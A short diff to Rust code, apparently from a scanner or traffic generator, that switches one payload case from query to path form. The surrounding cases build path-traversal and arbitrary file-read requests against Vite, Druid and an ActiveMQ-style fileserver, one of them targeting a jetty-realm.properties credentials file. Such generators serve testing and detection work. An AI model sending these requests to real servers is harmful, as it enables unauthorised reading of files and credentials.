@@ -215,7 +215,7 @@ fn server_files(rng: &mut Rng) -> Shot {
             )
         }
         24 => path(format!("/@fs/{file}?import&raw??&{word}"), rng),
-        25 => query(format!("/druid/coordinator/v1/lookups/config/{}{file}?{word}", "%2e%2e%2f".repeat(n)), rng),
+        25 => path(format!("/druid/coordinator/v1/lookups/config/{}{file}?{word}", "%2e%2e%2f".repeat(n)), rng),
         _ => path(
             format!("/fileserver/{word}/..\\..\\{}conf\\jetty-realm.properties", "..\\".repeat(n)).replace('\\', "%5C"),
             rng,
